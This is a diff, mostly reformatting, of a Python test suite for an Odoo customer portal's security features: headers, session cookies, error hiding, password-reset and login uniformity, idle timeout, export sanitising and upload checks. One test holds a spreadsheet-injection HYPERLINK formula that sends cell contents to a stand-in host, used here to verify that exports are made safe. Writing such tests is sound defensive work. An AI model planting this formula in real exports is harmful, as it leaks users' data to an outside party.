@@ -1,6 +1,7 @@
 """Issue 10 ("Trust"), HTTP side: headers, session cookie, error details, password reset and
 login without account enumeration, portal idle timeout, formula-free exports, upload checks.
 Run with --odoo-http."""
+
 import csv
 import io
 import json
@@ -10,10 +11,12 @@ import zipfile
 from unittest.mock import patch
 
 import xlsxwriter
+
 from odoo import http
+from odoo.tools import config, mute_logger
+
 from odoo.addons.mail.tests.common import MockEmail
 from odoo.addons.terasoft_portal.models.res_users import ResUsers
-from odoo.tools import config, mute_logger
 
 from .common import patch_cron_commit
 from .test_portal_routes import PortalCase
@@ -31,13 +34,18 @@ def _zip(entries, compression=zipfile.ZIP_DEFLATED):
 
 
 def _docx():
-    return _zip([
-        ("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
-         '2006/content-types"><Override PartName="/word/document.xml" ContentType="application/'
-         'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
-        ("_rels/.rels", "<Relationships/>"),
-        ("word/document.xml", "<w:document/>"),
-    ])
+    return _zip(
+        [
+            (
+                "[Content_Types].xml",
+                '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
+                '2006/content-types"><Override PartName="/word/document.xml" ContentType="application/'
+                'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+            ),
+            ("_rels/.rels", "<Relationships/>"),
+            ("word/document.xml", "<w:document/>"),
+        ]
+    )
 
 
 PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
@@ -45,7 +53,6 @@ EXE = b"MZ\x90\x00\x03" + b"\x00" * 200 + b"PE\x00\x00" + b"\x00" * 100
 
 
 class TrustCase(PortalCase):
-
     def setUp(self):
         super().setUp()
         # Failed logins put 127.0.0.1 on Odoo's login cooldown for the whole registry.
@@ -59,7 +66,6 @@ class TrustCase(PortalCase):
 
 
 class TestSecurityHeaders(TrustCase):
-
     def _assert_hardened(self, response, path):
         headers = response.headers
         csp = headers.get("Content-Security-Policy", "")
@@ -75,9 +81,17 @@ class TestSecurityHeaders(TrustCase):
     def test_portal_pages_send_the_security_headers(self):
         attachment = self._attach(self.alfa_ticket, name="log.zip", raw=_zip([("a.txt", "ciao")]))
         self._login(self.giulia)
-        for path in ("/my", "/my/tickets", "/my/tickets/new", f"/my/tickets/{self.alfa_ticket.id}",
-                     "/my/tickets/export/csv", "/my/tickets/export/xlsx", "/my/faq", "/my/documents",
-                     f"/my/tickets/{self.alfa_ticket.id}/attachments/{attachment.id}"):
+        for path in (
+            "/my",
+            "/my/tickets",
+            "/my/tickets/new",
+            f"/my/tickets/{self.alfa_ticket.id}",
+            "/my/tickets/export/csv",
+            "/my/tickets/export/xlsx",
+            "/my/faq",
+            "/my/documents",
+            f"/my/tickets/{self.alfa_ticket.id}/attachments/{attachment.id}",
+        ):
             response = self.url_open(path)
             self.assertEqual(response.status_code, 200, path)
             self._assert_hardened(response, path)
@@ -97,7 +111,9 @@ class TestSecurityHeaders(TrustCase):
         self.assertTrue(inline)
         for attributes in inline:
             self.assertIn(f'nonce="{nonce}"', attributes)
-        self.assertNotEqual(nonce, NONCE_RE.search(self.url_open("/my/tickets").headers["Content-Security-Policy"]).group(1))
+        self.assertNotEqual(
+            nonce, NONCE_RE.search(self.url_open("/my/tickets").headers["Content-Security-Policy"]).group(1)
+        )
 
     def test_foreign_ticket_404_page_is_hardened_too(self):
         self._login(self.giulia)
@@ -115,11 +131,14 @@ class TestSecurityHeaders(TrustCase):
 
 
 class TestSessionCookie(TrustCase):
-
     def _login_response(self, headers=None):
         token = self._public_csrf("/web/login", headers=headers)
-        return self.url_open("/web/login", headers=headers, allow_redirects=False, data={
-            "login": "giulia.bianchi@example.com", "password": "demo", "csrf_token": token})
+        return self.url_open(
+            "/web/login",
+            headers=headers,
+            allow_redirects=False,
+            data={"login": "giulia.bianchi@example.com", "password": "demo", "csrf_token": token},
+        )
 
     def _session_cookie(self, response):
         cookies = [c for c in response.raw.headers.getlist("Set-Cookie") if c.startswith("session_id=")]
@@ -152,13 +171,20 @@ class TestSessionCookie(TrustCase):
 
 
 class TestErrorDetails(TrustCase):
-
     def _call_kw(self, method="no_such_method", args=([],)):
         with mute_logger("odoo.http"):
-            return self.url_open(f"/web/dataset/call_kw/res.partner/{method}", data=json.dumps({
-                "jsonrpc": "2.0", "method": "call", "id": 1,
-                "params": {"model": "res.partner", "method": method, "args": list(args), "kwargs": {}},
-            }), headers={"Content-Type": "application/json"}).json()
+            return self.url_open(
+                f"/web/dataset/call_kw/res.partner/{method}",
+                data=json.dumps(
+                    {
+                        "jsonrpc": "2.0",
+                        "method": "call",
+                        "id": 1,
+                        "params": {"model": "res.partner", "method": method, "args": list(args), "kwargs": {}},
+                    }
+                ),
+                headers={"Content-Type": "application/json"},
+            ).json()
 
     def test_portal_user_gets_no_traceback_nor_server_paths(self):
         self._login(self.giulia)
@@ -189,14 +215,22 @@ class TestErrorDetails(TrustCase):
         self.assertIn("Traceback", error["data"]["debug"])
 
     def make_jsonrpc_request_raw(self, url, params):
-        return self.url_open(url, data=json.dumps({"jsonrpc": "2.0", "method": "call", "id": 1, "params": params}),
-                             headers={"Content-Type": "application/json"}).json()
+        return self.url_open(
+            url,
+            data=json.dumps({"jsonrpc": "2.0", "method": "call", "id": 1, "params": params}),
+            headers={"Content-Type": "application/json"},
+        ).json()
 
     def test_portal_user_in_debug_mode_gets_no_traceback_on_error_pages(self):
         self._login(self.giulia)
         self.url_open("/my?debug=1")
-        with patch("odoo.addons.terasoft_portal.controllers.portal.TicketPortal._prepare_ticket_list_values",
-                   side_effect=RuntimeError("/srv/secret/path.py")), mute_logger("odoo.http"):
+        with (
+            patch(
+                "odoo.addons.terasoft_portal.controllers.portal.TicketPortal._prepare_ticket_list_values",
+                side_effect=RuntimeError("/srv/secret/path.py"),
+            ),
+            mute_logger("odoo.http"),
+        ):
             response = self.url_open("/my/tickets?debug=1")
         self.assertEqual(response.status_code, 500)
         self.assertNotIn("/srv/secret/path.py", response.text)
@@ -204,7 +238,6 @@ class TestErrorDetails(TrustCase):
 
 
 class TestPasswordReset(MockEmail, TrustCase):
-
     def setUp(self):
         super().setUp()
         self.env["terasoft.password.reset.request"].search([]).unlink()  # a kept database's
@@ -233,8 +266,10 @@ class TestPasswordReset(MockEmail, TrustCase):
         # nothing is looked up or sent in the request: both wait for the cron
         self.assertEqual(Mail.search_count([]), mails_before)
         Request = self.env["terasoft.password.reset.request"]
-        self.assertEqual(Request.search([("done", "=", False)]).mapped("login"),
-                         ["giulia.bianchi@example.com", "nessuno@example.com"])
+        self.assertEqual(
+            Request.search([("done", "=", False)]).mapped("login"),
+            ["giulia.bianchi@example.com", "nessuno@example.com"],
+        )
 
     def test_cron_sends_the_reset_email_to_existing_accounts_only(self):
         self._reset("giulia.bianchi@example.com")
@@ -261,7 +296,9 @@ class TestPasswordReset(MockEmail, TrustCase):
         responses = [self._reset(f"r{index}@example.com") for index in range(3)]
         self.assertNotIn("alert-danger", responses[1].text)
         self.assertIn("alert-danger", responses[2].text)
-        self.assertEqual(self.env["terasoft.password.reset.request"].search_count([("request_ip", "=", "127.0.0.1")]), 2)
+        self.assertEqual(
+            self.env["terasoft.password.reset.request"].search_count([("request_ip", "=", "127.0.0.1")]), 2
+        )
 
     def test_setting_a_new_password_with_a_token_still_works(self):
         self.giulia.partner_id.sudo().signup_prepare(signup_type="reset")
@@ -269,15 +306,21 @@ class TestPasswordReset(MockEmail, TrustCase):
         self.authenticate(None, None)
         page = self.url_open(f"/web/reset_password?token={token}")
         self.assertEqual(page.status_code, 200)
-        self.url_open("/web/reset_password", data={
-            "token": token, "login": self.giulia.login, "password": "Nuova-Password-2026",
-            "confirm_password": "Nuova-Password-2026", "csrf_token": CSRF_RE.search(page.text).group(1)})
+        self.url_open(
+            "/web/reset_password",
+            data={
+                "token": token,
+                "login": self.giulia.login,
+                "password": "Nuova-Password-2026",
+                "confirm_password": "Nuova-Password-2026",
+                "csrf_token": CSRF_RE.search(page.text).group(1),
+            },
+        )
         self.assertFalse(self.env["terasoft.password.reset.request"].search([]))
         self.authenticate(self.giulia.login, "Nuova-Password-2026")
 
 
 class TestLoginUniformity(TrustCase):
-
     def _login_attempt(self, login, password):
         token = self._public_csrf("/web/login")
         return self.url_open("/web/login", data={"login": login, "password": password, "csrf_token": token})
@@ -289,6 +332,7 @@ class TestLoginUniformity(TrustCase):
         def spy(self, password):
             calls.append(password)
             return verify(self, password)
+
         with patch.object(ResUsers, "_terasoft_verify_dummy_password", spy):
             known = self._login_attempt("giulia.bianchi@example.com", "sbagliata")
             self.assertEqual(calls, [])  # the real hash was checked
@@ -309,7 +353,6 @@ class TestLoginUniformity(TrustCase):
 
 
 class TestPortalIdleTimeout(TrustCase):
-
     def _age_session(self, minutes):
         session = http.root.session_store.get(self.session.sid)
         session["terasoft_last_activity"] = time.time() - minutes * 60
@@ -346,7 +389,6 @@ class TestPortalIdleTimeout(TrustCase):
 
 
 class TestExportFormulas(TrustCase):
-
     FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
     def setUp(self):
@@ -395,11 +437,16 @@ class TestExportFormulas(TrustCase):
 
 
 class TestUploads(TrustCase):
-
     def _form(self, **overrides):
-        return {"name": "Allegato controllato", "priority": "1", "importance": "non_blocking",
-                "category_id": str(self.cat_paghe.id), "ticket_type": "defect",
-                "description": "Testo scritto dal cliente", **overrides}
+        return {
+            "name": "Allegato controllato",
+            "priority": "1",
+            "importance": "non_blocking",
+            "category_id": str(self.cat_paghe.id),
+            "ticket_type": "defect",
+            "description": "Testo scritto dal cliente",
+            **overrides,
+        }
 
     def _new(self, files):
         self._login(self.giulia)
@@ -450,17 +497,24 @@ class TestUploads(TrustCase):
         workbook = xlsxwriter.Workbook(workbook_buffer)
         workbook.add_worksheet().write(0, 0, "ciao")
         workbook.close()
-        files = [("fattura.pdf", PDF, "application/pdf"),
-                 ("lettera.docx", _docx(), "application/octet-stream"),
-                 ("conti.xlsx", workbook_buffer.getvalue(), "application/octet-stream"),
-                 ("log.txt", b"2026-12-01 ERRORE stampa\n", "text/plain"),
-                 ("log.zip", _zip([("log.txt", "riga\n" * 100)]), "application/zip")]
+        files = [
+            ("fattura.pdf", PDF, "application/pdf"),
+            ("lettera.docx", _docx(), "application/octet-stream"),
+            ("conti.xlsx", workbook_buffer.getvalue(), "application/octet-stream"),
+            ("log.txt", b"2026-12-01 ERRORE stampa\n", "text/plain"),
+            ("log.zip", _zip([("log.txt", "riga\n" * 100)]), "application/zip"),
+        ]
         response = self._new(files)
         self.assertEqual(response.status_code, 303, response.text[:500])
         ticket = self._created()
-        self.assertEqual(sorted(self.env["ir.attachment"].search([
-            ("res_model", "=", "terasoft.ticket"), ("res_id", "=", ticket.id)]).mapped("name")),
-            sorted(name for name, _content, _mime in files))
+        self.assertEqual(
+            sorted(
+                self.env["ir.attachment"]
+                .search([("res_model", "=", "terasoft.ticket"), ("res_id", "=", ticket.id)])
+                .mapped("name")
+            ),
+            sorted(name for name, _content, _mime in files),
+        )
 
     def test_zip_renamed_docx_is_refused(self):
         response = self._new([("lettera.docx", _zip([("a.txt", "ciao")]), "application/octet-stream")])
@@ -468,8 +522,11 @@ class TestUploads(TrustCase):
 
     def test_comment_with_a_disguised_file_is_refused_and_keeps_the_text(self):
         self._login(self.giulia)
-        response = self._post(f"/my/tickets/{self.alfa_ticket.id}/comment", {"comment": "Ecco il file"},
-                              files=[("attachments", ("schermata.png", EXE, "image/png"))])
+        response = self._post(
+            f"/my/tickets/{self.alfa_ticket.id}/comment",
+            {"comment": "Ecco il file"},
+            files=[("attachments", ("schermata.png", EXE, "image/png"))],
+        )
         # post/redirect/get: back on the ticket's page, with the error and the typed text
         self.assertEqual(response.status_code, 303)
         page = self.url_open(response.headers["Location"])
